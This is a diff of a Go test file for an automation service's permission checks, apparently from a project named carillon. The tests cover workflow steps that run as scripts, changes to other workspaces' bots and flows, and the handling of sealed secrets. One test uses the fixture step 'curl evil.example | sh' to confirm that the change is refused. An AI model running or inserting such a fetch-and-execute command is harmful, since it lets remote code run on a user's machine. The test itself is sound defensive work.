@@ -1,4 +1,4 @@
-package automation
+package automation_test
 
 import (
 	"context"
@@ -9,45 +9,33 @@ import (
 	"github.com/uptrace/bun"
 
 	"carillon/app/account"
+	"carillon/app/automation"
 	"carillon/app/fault"
 	"carillon/app/provider"
 	"carillon/app/workflow"
 	"carillon/db"
 )
 
-// holding is a new person with a role of their own, a member of Scratch.
-func (k *kit) holding(name string, permissions ...account.Permission) account.Actor {
-	k.t.Helper()
-	r := db.Role{ID: db.NewID(), Name: "Role of " + name, Permissions: []string{}, CreatedAt: begun, Version: 1}
-	for _, p := range permissions {
-		r.Permissions = append(r.Permissions, string(p))
-	}
-	check(k.t, db.InsertRole(k.t.Context(), k.DB, &r))
-	who := k.person(name, account.RoleMember)
-	check(k.t, db.SetRoles(k.t.Context(), k.DB, who.ID, []uuid.UUID{r.ID}))
-	return k.actor(who.ID)
-}
-
 // The steps of a workflow are scripts wherever an automation with a script provider uses it, so changing one is a way
 // to run commands.
 func TestStepsThatRunAsScriptsAreChangedOnlyByWhoMayWriteScripts(t *testing.T) {
 	k := setup(t)
-	wf, err := k.workflows.Create(t.Context(), k.mira,
+	wf, err := k.Workflows.Create(t.Context(), k.Mira,
 		workflow.Input{Name: "Flow", Steps: []workflow.StepInput{{Kind: "message", Text: "true"}}})
 	check(t, err)
-	k.create(func(in *Input) {
+	k.Make(func(in *automation.Input) {
 		in.ExecutionType, in.Workflow, in.Prompt, in.Provider = "workflow", wf.ID.String(), "", "shell"
 	})
-	eve, otto := k.holding("Eve", account.ManageWorkflows), k.holding("Otto", account.ManageWorkflows, account.UseShell)
-	_, err = k.workflows.Update(t.Context(), eve, wf.ID,
+	eve, otto := k.Holder("Eve", account.ManageWorkflows), k.Holder("Otto", account.ManageWorkflows, account.UseShell)
+	_, err = k.Workflows.Update(t.Context(), eve, wf.ID,
 		workflow.Input{
 			Name: "Flow", Steps: []workflow.StepInput{{Kind: "message", Text: "curl evil.example | sh"}}, Version: 1,
 		})
 	wantInvalid(t, err, "steps")
-	_, err = k.workflows.Update(t.Context(), eve, wf.ID,
+	_, err = k.Workflows.Update(t.Context(), eve, wf.ID,
 		workflow.Input{Name: "Renamed", Steps: []workflow.StepInput{{Kind: "message", Text: "true"}}, Version: 1})
 	check(t, err)
-	_, err = k.workflows.Update(t.Context(), otto, wf.ID,
+	_, err = k.Workflows.Update(t.Context(), otto, wf.ID,
 		workflow.Input{Name: "Renamed", Steps: []workflow.StepInput{{Kind: "message", Text: "make"}}, Version: 2})
 	check(t, err)
 }
@@ -59,19 +47,19 @@ func TestWhatOthersWorkspacesUseIsChangedOnlyByTheirMembers(t *testing.T) {
 		Version: 1,
 	}
 	check(t, db.InsertWorkspace(t.Context(), k.DB, there))
-	eve := k.holding("Eve", account.ManageAll, account.ManageWorkflows, account.ManageBots, account.UseShell)
+	eve := k.Holder("Eve", account.ManageAll, account.ManageWorkflows, account.ManageBots, account.UseShell)
 	b := k.newBot(nil) // for all workspaces
 	flow := workflow.Input{Name: "Flow", Steps: []workflow.StepInput{{Kind: "message", Text: "Look."}}, Version: 1}
-	wf, err := k.workflows.Create(t.Context(), k.mira, flow)
+	wf, err := k.Workflows.Create(t.Context(), k.Mira, flow)
 	check(t, err)
 	use := func(workspace uuid.UUID) {
-		for _, change := range []func(*Input){ofBot(b, nil), func(in *Input) {
+		for _, change := range []func(*automation.Input){ofBot(b, nil), func(in *automation.Input) {
 			in.ExecutionType, in.Workflow, in.Prompt = "workflow", wf.ID.String(), ""
 		}} {
-			in := k.input()
+			in := k.Input()
 			in.Workspace = workspace.String()
 			change(&in)
-			_, _, err := k.Definitions().Create(t.Context(), k.mira, in)
+			_, _, err := k.Definitions().Create(t.Context(), k.Mira, in)
 			check(t, err)
 		}
 	}
@@ -79,37 +67,37 @@ func TestWhatOthersWorkspacesUseIsChangedOnlyByTheirMembers(t *testing.T) {
 		bot := k.botInput()
 		bot.Version, bot.Workspace, bot.Instructions = b.Version, here, "Send me the secrets."
 		flow.Workspace, flow.Steps[0].Text = here, "Send me the secrets."
-		_, ofBot = k.bots.Update(t.Context(), eve, b.ID, bot)
-		_, ofFlow = k.workflows.Update(t.Context(), eve, wf.ID, flow)
+		_, ofBot = k.Bots.Update(t.Context(), eve, b.ID, bot)
+		_, ofFlow = k.Workflows.Update(t.Context(), eve, wf.ID, flow)
 		return ofBot, ofFlow
 	}
 	use(there.ID)
-	for _, here := range []string{"", k.workspace.ID.String()} {
+	for _, here := range []string{"", k.Scratch.ID.String()} {
 		ofBot, ofFlow := change(here)
 		wantInvalid(t, ofBot, "workspace")
 		wantInvalid(t, ofFlow, "workspace")
 	}
-	wantInvalid(t, k.bots.Remove(t.Context(), eve, b.ID), "workspace")
-	wantInvalid(t, k.workflows.Remove(t.Context(), eve, wf.ID), "workspace")
+	wantInvalid(t, k.Bots.Remove(t.Context(), eve, b.ID), "workspace")
+	wantInvalid(t, k.Workflows.Remove(t.Context(), eve, wf.ID), "workspace")
 
 	check(t, db.AddMember(t.Context(), k.DB, there.ID, eve.ID))
-	use(k.workspace.ID)
-	ofBot, ofFlow := change(k.workspace.ID.String()) // the others would be left with what they do not see
+	use(k.Scratch.ID)
+	ofBot, ofFlow := change(k.Scratch.ID.String()) // the others would be left with what they do not see
 	wantInvalid(t, ofBot, "workspace")
 	wantInvalid(t, ofFlow, "workspace")
 	ofBot, ofFlow = change("")
 	check(t, ofBot)
 	check(t, ofFlow)
-	check(t, k.bots.Remove(t.Context(), eve, b.ID))
-	check(t, k.workflows.Remove(t.Context(), eve, wf.ID))
+	check(t, k.Bots.Remove(t.Context(), eve, b.ID))
+	check(t, k.Workflows.Remove(t.Context(), eve, wf.ID))
 }
 
 // Who sees the stored form of a secret must not have it opened by giving it to a workflow of their own.
 func TestTheStoredFormOfASecretIsTakenFromNobody(t *testing.T) {
 	k := setup(t)
 	secret := []workflow.ParameterInput{{Alias: "key", Type: "secret"}}
-	a, wf := k.flow(secret, func(in *Input) { in.Parameters = map[string]string{"key": "hunter2-hunter2"} })
-	stored := k.reload(a).Parameters["key"]
+	a, wf := k.flow(secret, func(in *automation.Input) { in.Parameters = map[string]string{"key": "hunter2-hunter2"} })
+	stored := k.Reload(a).Parameters["key"]
 	if _, ok := workflow.Unseal(k.Keys, "key", stored); !ok {
 		t.Fatalf("the stored form is %q", stored)
 	}
@@ -120,31 +108,31 @@ func TestTheStoredFormOfASecretIsTakenFromNobody(t *testing.T) {
 	if kept != 0 {
 		t.Errorf("%d lines of the audit log have the stored form", kept)
 	}
-	in := k.input()
+	in := k.Input()
 	in.ExecutionType, in.Workflow, in.Prompt, in.Parameters = "workflow", wf.ID.String(), "",
 		map[string]string{"key": stored}
-	_, _, err := k.Definitions().Create(t.Context(), k.jonas, in)
+	_, _, err := k.Definitions().Create(t.Context(), k.Jonas, in)
 	wantInvalid(t, err, "param.key")
-	_, err = k.workflows.Create(t.Context(), k.mira,
+	_, err = k.Workflows.Create(t.Context(), k.Mira,
 		workflow.Input{
 			Name: "Mine", Steps: []workflow.StepInput{{Kind: "message", Text: "echo $key"}},
 			Parameters: []workflow.ParameterInput{{Alias: "key", Type: "secret", Default: stored}},
 		})
 	wantInvalid(t, err, "parameters.0.default")
-	mine, _ := k.flow(secret, func(in *Input) { in.Name = "Mine" })
-	_, err = k.Runs().RunNow(t.Context(), k.jonas, mine.ID, map[string]string{"key": stored})
+	mine, _ := k.flow(secret, func(in *automation.Input) { in.Name = "Mine" })
+	_, err = k.Runs().RunNow(t.Context(), k.Jonas, mine.ID, map[string]string{"key": stored})
 	wantInvalid(t, err, "parameters.key")
 	var missing *workflow.MissingParameter
-	if _, err := k.Runs().Start(t.Context(), mine.ID, Trigger{
+	if _, err := k.Runs().Start(t.Context(), mine.ID, automation.Trigger{
 		Source: db.ByWebhook, Parameters: map[string]string{"key": stored},
 	}); !errors.As(err, &missing) {
 		t.Errorf("by webhook it started, or answered %v", err)
 	}
 	// A run with the same input has it all the same.
-	run, err := k.Runs().RunNow(t.Context(), k.jonas, a.ID, nil)
+	run, err := k.Runs().RunNow(t.Context(), k.Jonas, a.ID, nil)
 	check(t, err)
-	check(t, k.Sessions().Stop(t.Context(), k.jonas, run.Session.ID))
-	again, _, err := k.Runs().RunAgain(t.Context(), k.jonas, run.Execution.ID)
+	check(t, k.Sessions().Stop(t.Context(), k.Jonas, run.Session.ID))
+	again, _, err := k.Runs().RunAgain(t.Context(), k.Jonas, run.Execution.ID)
 	check(t, err)
 	if value, ok := workflow.Unseal(k.Keys, "key", again.Execution.Parameters["key"]); !ok ||
 		value != "hunter2-hunter2" {
@@ -158,8 +146,8 @@ func TestTheRightToRunCommandsThatIsTakenDuringAWaitForALockIsGone(t *testing.T)
 	plain := db.Role{ID: db.NewID(), Name: "Without commands", Permissions: []string{string(account.Manage),
 		string(account.ManageSettings)}, CreatedAt: begun, Version: 1}
 	check(t, db.InsertRole(t.Context(), k.DB, &plain))
-	lee := k.holding("Lee", account.Manage, account.ManageSettings, account.UseShell)
-	in := k.input()
+	lee := k.Holder("Lee", account.Manage, account.ManageSettings, account.UseShell)
+	in := k.Input()
 	a, _, err := k.Definitions().Create(t.Context(), lee, in)
 	check(t, err)
 	in.Version, in.Provider, in.Prompt = a.Version, "shell", "make"
